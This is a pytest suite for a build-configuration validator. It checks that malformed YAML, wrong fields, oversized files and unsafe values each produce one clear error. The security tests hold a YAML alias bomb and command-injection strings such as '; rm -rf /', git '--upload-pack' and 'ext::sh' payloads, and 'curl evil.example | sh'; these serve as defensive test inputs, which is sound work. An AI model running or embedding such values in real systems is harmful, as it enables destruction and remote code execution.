"""`image-factory validate` and the loader: every bad input gets one clear line, the rest goes on."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from reconciler.source.loading import Loader

from .helpers import EXAMPLES, cli, copy_examples, git, init_repo

LINE = re.compile(r"^(?P<path>[^:]+):(?P<line>\d+): (?:(?P<field>[\w.\[\]<>-]+): )?(?P<message>.+)$")
BUILD = "builds/web/frontend.yaml"


def _write(repo: Path, rel: str, text: str | bytes) -> None:
    path = repo / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text if isinstance(text, bytes) else text.encode())


def _problems(repo: Path) -> list[str]:
    snap = Loader().load_directory(str(repo))
    return [str(p) for p in snap.errors]


def _only(repo: Path, rel: str) -> list[str]:
    lines = [p for p in _problems(repo) if p.startswith(rel + ":")]
    assert lines, f"no problem reported for {rel}"
    return lines


@pytest.fixture()
def repo(tmp_path: Path) -> Path:
    return copy_examples(tmp_path / "repo")


def test_examples_repo_is_valid():
    proc = cli("validate", str(EXAMPLES))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert proc.stdout.strip().startswith("valid: 8 providers, 17 pools")


def test_every_example_file_names_its_schema():
    kinds = {"factory.yaml": "factoryconfig", "providers": "provider", "pools": "pool", "builds": "buildrequest"}
    files = [p for p in EXAMPLES.rglob("*.yaml") if p.relative_to(EXAMPLES).parts[0] in kinds]
    assert len(files) > 40
    for path in files:
        first = path.read_text().splitlines()[0]
        match = re.match(r"# yaml-language-server: \$schema=(\S+)$", first)
        assert match, f"{path}: first line must be the yaml-language-server $schema line"
        target = (path.parent / match.group(1)).resolve()
        assert target.exists(), f"{path}: {target} does not exist"
        assert target.name == f"{kinds[path.relative_to(EXAMPLES).parts[0]]}.schema.json"


def test_schemas_are_current():
    proc = cli("schemas", "--check")
    assert proc.returncode == 0, proc.stdout


def test_schemas_check_fails_when_stale(tmp_path: Path):
    assert cli("schemas", "--write", "--dir", str(tmp_path)).returncode == 0
    (tmp_path / "pool.schema.json").write_text("{}\n")
    proc = cli("schemas", "--check", "--dir", str(tmp_path))
    assert proc.returncode == 1 and "pool.schema.json: stale" in proc.stdout


# --- bad input: each one clear line naming file, line and field; the others still load ---

def _assert_isolated(repo: Path, broken: str) -> None:
    """The broken file is reported, and every other file still validated and loaded."""
    snap = Loader().load_directory(str(repo))
    assert {p.path for p in snap.errors} == {broken}, [str(p) for p in snap.errors]
    assert len(snap.builds) + len(snap.providers) + len(snap.pools) >= 40
    for problem in snap.errors:
        assert LINE.match(str(problem)), str(problem)
        assert "\n" not in str(problem)


def test_broken_yaml(repo: Path):
    _write(repo, BUILD, "apiVersion: imagefactory.dev/v1alpha1\nkind: BuildRequest\nmetadata:\n  name: [frontend\nspec: {}\n")
    lines = _only(repo, BUILD)
    assert lines == [f"{BUILD}:5: invalid YAML: while parsing a flow sequence, expected ',' or ']'"] or "invalid YAML" in lines[0]
    _assert_isolated(repo, BUILD)


@pytest.mark.parametrize("field,value,expected", [
    ("apiVersion", "imagefactory.dev/v1", "apiVersion: 'imagefactory.dev/v1'; expected imagefactory.dev/v1alpha1"),
    ("kind", "Build", "kind: 'Build' is not a kind; expected one of FactoryConfig, Provider, Pool, BuildRequest"),
    ("kind", "Pool", "kind: a Pool does not belong here; files in this folder hold BuildRequest"),
])
def test_wrong_api_version_or_kind(repo: Path, field: str, value: str, expected: str):
    path = repo / BUILD
    text = re.sub(rf"^{field}: .*$", f"{field}: {value}", path.read_text(), flags=re.M)
    path.write_text(text)
    line = text.splitlines().index(f"{field}: {value}") + 1
    assert _only(repo, BUILD) == [f"{BUILD}:{line}: {expected}"]
    _assert_isolated(repo, BUILD)


def test_unknown_field_and_wrong_type_are_each_reported(repo: Path):
    path = repo / BUILD
    text = path.read_text().replace("  method: docker\n", "  method: dockr\n  colour: blue\n")
    text = text.replace("    memory: 4Gi", "    memory: [4Gi]")
    path.write_text(text)
    lines = _only(repo, BUILD)
    rows = text.splitlines()
    method_line = rows.index("  method: dockr") + 1
    assert f"{BUILD}:{method_line}: spec.method: 'dockr' is not one of docker, kaniko, buildx, packer, nix, paketo" in lines
    assert f"{BUILD}:{method_line + 1}: spec.colour: unknown field (check the spelling; see schemas/ for the fields this kind takes)" in lines
    memory_line = rows.index("    memory: [4Gi]") + 1
    assert any(line.startswith(f"{BUILD}:{memory_line}: spec.requirements.memory: ") for line in lines), lines
    _assert_isolated(repo, BUILD)


def test_wrong_types(repo: Path):
    path = repo / "pools/eks-gpu.yaml"
    path.write_text(path.read_text().replace("maxConcurrentBuilds: 3", "maxConcurrentBuilds: \"3\""))
    lines = _only(repo, "pools/eks-gpu.yaml")
    assert any("spec.maxConcurrentBuilds: expected a whole number, got the text '3'" in line for line in lines), lines


@pytest.mark.parametrize("raw,hint", [
    ("NO", 'unquoted NO is the boolean false in YAML 1.1 but text in YAML 1.2; write "NO" in quotes'),
    ("on", 'unquoted on is the boolean true in YAML 1.1'),
    ("1e3", 'unquoted 1e3 is text in YAML 1.1 but a number in YAML 1.2; write "1e3" in quotes'),
])
def test_yaml_11_surprises_in_string_fields(repo: Path, raw: str, hint: str):
    path = repo / BUILD
    text = path.read_text().replace("    revision: main\n", f"    revision: {raw}\n")
    path.write_text(text)
    line = text.splitlines().index(f"    revision: {raw}") + 1
    lines = _only(repo, BUILD)
    assert any(l.startswith(f"{BUILD}:{line}: spec.source.revision: {hint}") for l in lines), lines
    _assert_isolated(repo, BUILD)


def test_number_in_string_field_says_to_quote(repo: Path):
    path = repo / BUILD
    text = path.read_text().replace("    revision: main\n", "    revision: 1234\n")
    path.write_text(text)
    line = text.splitlines().index("    revision: 1234") + 1
    assert _only(repo, BUILD) == [f'{BUILD}:{line}: spec.source.revision: expected text, got the number 1234; write "1234" in quotes']


def test_duplicate_names_across_files(repo: Path):
    (repo / "builds/web/frontend2.yaml").write_text((repo / BUILD).read_text())
    lines = _only(repo, "builds/web/frontend2.yaml")
    assert lines == [f"builds/web/frontend2.yaml:5: metadata.name: BuildRequest 'frontend' is already defined at {BUILD}:2; names must be unique"]


def test_duplicate_keys_in_one_file(repo: Path):
    path = repo / BUILD
    text = path.read_text().replace("  method: docker\n", "  method: docker\n  method: kaniko\n")
    path.write_text(text)
    lines = _only(repo, BUILD)
    assert any("spec.method: key 'method' appears twice" in line for line in lines), lines


def test_dangling_references(repo: Path):
    pool = repo / "pools/eks-gpu.yaml"
    pool.write_text(pool.read_text().replace("nodePool: gpu-a100", "nodePool: gpu-h100"))
    build = repo / "builds/web/storybook.yaml"
    build.write_text(build.read_text().replace("provider: gke-europe-west4", "provider: gke-nowhere"))
    problems = _problems(repo)
    assert any(p.startswith("pools/eks-gpu.yaml:") and "spec.nodePool: provider prod-us-east-1 has no node pool 'gpu-h100' (it has general, gpu-a100, graviton)" in p for p in problems), problems
    assert any(p.startswith("builds/web/storybook.yaml:") and "spec.placement.provider: provider 'gke-nowhere' does not exist" in p for p in problems), problems


def test_build_of_an_undeclared_team(repo: Path):
    _write(repo, "builds/finance/ledger.yaml", (repo / BUILD).read_text().replace("name: frontend", "name: ledger"))
    assert any("team 'finance' (from the folder builds/finance/) is not defined" in p for p in _only(repo, "builds/finance/ledger.yaml"))


def test_empty_file(repo: Path):
    _write(repo, "builds/web/empty.yaml", "")
    assert _only(repo, "builds/web/empty.yaml") == ["builds/web/empty.yaml:1: file is empty; expected a YAML document with apiVersion, kind, metadata and spec"]
    _assert_isolated(repo, "builds/web/empty.yaml")


def test_file_over_one_mebibyte(repo: Path):
    _write(repo, "builds/web/huge.yaml", "# " + "x" * (1 << 20) + "\n")
    assert _only(repo, "builds/web/huge.yaml") == ["builds/web/huge.yaml:1: file is 1,048,579 bytes; the limit is 1,048,576 (1 MiB)"]
    _assert_isolated(repo, "builds/web/huge.yaml")


def test_non_utf8_bytes(repo: Path):
    _write(repo, "builds/web/latin1.yaml", (repo / BUILD).read_bytes().replace(b"name: frontend", b"name: fr\xe9ontend"))
    lines = _only(repo, "builds/web/latin1.yaml")
    assert lines == ["builds/web/latin1.yaml:5: not valid UTF-8 (byte 0xe9 at offset " + lines[0].split("offset ")[1]]
    assert lines[0].endswith("save the file as UTF-8")


def test_billion_laughs(repo: Path):
    rows = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, name in zip("abcdefgh", "bcdefghi"):
        rows.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    _write(repo, "builds/web/bomb.yaml", "\n".join(rows) + "\n")
    lines = _only(repo, "builds/web/bomb.yaml")
    assert len(lines) == 1 and "expands to more than 100,000 values (an alias bomb?)" in lines[0]
    _assert_isolated(repo, "builds/web/bomb.yaml")


def test_deep_nesting_does_not_crash(repo: Path):
    _write(repo, "builds/web/deep.yaml", "- " * 200_000 + "x\n")
    lines = _only(repo, "builds/web/deep.yaml")
    assert lines == ["builds/web/deep.yaml:1: nesting is deeper than 64 levels"]


@pytest.mark.parametrize("name", ["Frontend", "front_end", "-frontend", "a" * 64, "front\nend"])
def test_invalid_kubernetes_names(repo: Path, name: str):
    path = repo / BUILD
    path.write_text(path.read_text().replace("name: frontend", f"name: {json.dumps(name)}"))
    lines = _only(repo, BUILD)
    assert len(lines) == 1 and lines[0].startswith(f"{BUILD}:5: metadata.name: "), lines
    assert "Kubernetes name" in lines[0] or "longer than 63" in lines[0]


@pytest.mark.parametrize("field,value", [
    ("image", "registry.acme.example/Web/Frontend:latest"),
    ("image", "registry.acme.example/web/frontend:latest\nspec: {}"),
    ("image", "registry.acme.example/web/frontend:latest; rm -rf /"),
    ("image", "registry.acme.example/web/frontend@sha256:xyz"),
    ("git", "--upload-pack=touch /tmp/pwned"),
    ("git", "ext::sh -c touch% /tmp/pwned"),
    ("git", "file:///etc/passwd"),
    ("git", "https://github.com/acme/storefront.git\n  revision: evil"),
    ("revision", "main; curl evil.example | sh"),
    ("revision", "--output=/tmp/x"),
    ("revision", "$(params.x)"),
])
def test_malformed_images_and_git_urls(repo: Path, field: str, value: str):
    path = repo / BUILD
    text = path.read_text()
    key = {"image": "  image: ", "git": "    git: ", "revision": "    revision: "}[field]
    text = re.sub(rf"^{re.escape(key)}.*$", key + json.dumps(value).replace("\\", "\\\\"), text, count=1, flags=re.M)
    path.write_text(text)
    lines = _only(repo, BUILD)
    assert len(lines) == 1, lines
    assert f"{field}: " in lines[0] and ("not a valid image reference" in lines[0] or "not a git URL" in lines[0]
                                         or "not a valid git branch" in lines[0]), lines


def test_plain_text_credentials_are_rejected_without_echoing_them(repo: Path):
    path = repo / "providers/vks-onprem.yaml"
    text = re.sub(r"token: .*", "token: hunter2-super-secret", path.read_text())
    path.write_text(text)
    proc = cli("validate", str(repo), "--output", "json")
    assert proc.returncode == 1
    assert "hunter2" not in proc.stdout + proc.stderr
    problems = json.loads(proc.stdout)["problems"]
    assert [p["field"] for p in problems] == ["spec.credentials.token"]
    assert "plain-text credentials are never accepted" in problems[0]["message"]


def test_auth_method_must_fit_the_provider_type(repo: Path):
    path = repo / "providers/gke-europe-west4.yaml"
    text = path.read_text().replace("method: gcp-workload-identity", "method: aws-iam")
    path.write_text(text)
    lines = _only(repo, "providers/gke-europe-west4.yaml")
    assert any("spec.auth.method: 'aws-iam' is not available for type gke" in l or "spec.auth" in l for l in lines), lines


def test_many_broken_files_are_all_reported(repo: Path):
    _write(repo, "builds/web/a.yaml", "kind: [")
    _write(repo, "builds/ml/b.yaml", "")
    _write(repo, "pools/c.yaml", "apiVersion: imagefactory.dev/v1alpha1\nkind: Pool\nmetadata: {name: c}\nspec: {provider: x}\n")
    proc = cli("validate", str(repo))
    assert proc.returncode == 1
    reported = {line.split(":")[0] for line in proc.stdout.splitlines()[:-1]}
    assert reported == {"builds/web/a.yaml", "builds/ml/b.yaml", "pools/c.yaml"}
    assert proc.stdout.splitlines()[-1].startswith("invalid: ") and "in 3 files" in proc.stdout.splitlines()[-1]


def test_exit_codes_and_json(repo: Path, tmp_path: Path):
    assert cli("validate", str(tmp_path / "nope")).returncode == 2
    proc = cli("validate", str(repo), "--output", "json")
    assert proc.returncode == 0
    data = json.loads(proc.stdout)
    assert data["valid"] is True and data["counts"] == {"factory": 1, "providers": 8, "pools": 17, "builds": len(list((repo / "builds").rglob("*.yaml")))}
    _write(repo, BUILD, "kind: [")
    data = json.loads(cli("validate", str(repo), "-o", "json").stdout)
    assert data["valid"] is False and data["problems"][0]["path"] == BUILD and data["problems"][0]["line"] == 1


# --- Git revisions and the blob cache ---

def test_validate_a_git_revision_without_checkout(repo: Path):
    first = init_repo(repo)
    (repo / BUILD).write_text("kind: [\n")
    git(repo, "commit", "-qam", "break frontend")
    assert cli("validate", str(repo), "--rev", first).returncode == 0
    assert cli("validate", str(repo), "--rev", "HEAD").returncode == 1
    git(repo, "checkout", "-q", first)  # the working tree no longer matters
    proc = cli("validate", str(repo), "--rev", "main")
    assert proc.returncode == 1 and proc.stdout.startswith(f"{BUILD}:1: invalid YAML")
    proc = cli("validate", str(repo), "--rev", "no-such-branch")
    assert proc.returncode == 2 and "revision no-such-branch not found" in proc.stderr


def test_unchanged_blobs_are_never_parsed_twice(repo: Path):
    init_repo(repo)
    loader = Loader()
    first = loader.load_revision(str(repo), "HEAD")
    assert loader.parsed == len(first.files)
    loader.load_revision(str(repo), "HEAD")
    assert loader.parsed == 0
    path = repo / BUILD
    path.write_text(path.read_text().replace("2.14.0", "2.15.0"))
    git(repo, "commit", "-qam", "bump")
    snap = loader.load_revision(str(repo), "HEAD")
    assert loader.parsed == 1
    assert snap.builds["frontend"].spec.image.endswith(":2.15.0")
    # The same holds for a plain directory (stat + content hash).
    loader = Loader()
    loader.load_directory(str(repo))
    loader.load_directory(str(repo))
    assert loader.parsed == 0
    path.write_text(path.read_text().replace("2.15.0", "2.16.0"))
    loader.load_directory(str(repo))
    assert loader.parsed == 1


def test_multi_document_files(repo: Path):
    one = (repo / "builds/web/frontend.yaml").read_text()
    two = (repo / "builds/web/checkout-api.yaml").read_text()
    (repo / "builds/web/checkout-api.yaml").unlink()
    (repo / BUILD).write_text(one + "---\n" + two)
    snap = Loader().load_directory(str(repo))
    assert snap.valid and {"frontend", "checkout-api"} <= set(snap.builds)
    assert snap.builds["checkout-api"].path == BUILD and snap.builds["checkout-api"].line > 10
